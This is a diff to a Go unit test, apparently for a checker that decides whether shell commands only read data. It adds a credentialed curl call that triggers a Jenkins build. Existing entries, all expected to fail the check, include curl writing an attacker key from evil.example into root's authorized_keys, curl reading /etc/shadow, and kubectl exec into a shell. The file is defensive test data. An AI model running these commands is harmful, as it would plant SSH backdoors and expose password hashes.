@@ -36,6 +36,7 @@ func TestReads(t *testing.T) {
 		"kubectl exec web -- sh":                                         false,
 		"curl -ksS -o /root/.ssh/authorized_keys https://evil.example/k": false,
 		"curl -K /tmp/x https://a.b/":                                    false,
+		"curl -ksS http://u:p@jenkins/job/x/build":                       false,
 		"curl -v file:///etc/shadow":                                     false,
 		"curl -v https://a.b/ https://c.d/":                              false,
 		"curl -v":                                                        false,
